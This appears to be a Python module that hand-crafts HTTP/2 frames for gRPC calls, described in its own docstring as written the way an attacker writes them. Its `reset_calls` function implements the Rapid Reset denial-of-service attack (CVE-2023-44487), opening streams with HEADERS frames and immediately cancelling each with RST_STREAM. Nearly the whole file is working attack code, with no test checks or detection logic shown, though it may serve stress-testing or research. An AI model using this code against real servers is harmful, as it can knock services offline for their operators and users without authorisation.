"""Frames of HTTP/2 as an attacker writes them, without a library that would keep to the rules."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
END_HEADERS = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def opening():
    """What every connection begins with."""
    return PREFACE + frame(SETTINGS, 0, 0)


def literal(name, value):
    """A header field of HPACK, as it is: without indexing, without Huffman coding."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(path, host):
    """Those of a gRPC call."""
    return b"".join(literal(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", host),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def reset_calls(first, count, fields):
    """Calls that are reset as soon as they are made (CVE-2023-44487), from stream `first` on."""
    return b"".join(frame(HEADERS, END_HEADERS, stream, fields) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    for stream in range(first, first + 2 * count, 2))
